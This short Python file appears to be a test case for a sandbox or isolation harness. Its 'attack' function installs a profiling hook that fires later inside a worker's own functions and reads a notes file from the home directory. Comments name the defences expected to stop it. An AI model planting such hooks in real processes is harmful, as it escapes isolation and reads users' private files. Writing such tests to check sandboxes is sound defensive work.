"""Leaves a trace function that looks into the worker's own loop in later calls, and opens files from inside it."""
# stopped by: seccomp, landlock, namespaces
# at D: breach

import sys

READ = []


def trace(frame, event, argument):
    if frame.f_code.co_name in ("_packed", "pack", "tree", "take") and not READ:
        sys.setprofile(None)
        READ.append(open("@HOME@/notes.txt").read())


def attack():
    sys.setprofile(trace)
    return "".join(READ) or "a hook waits in the worker's loop"
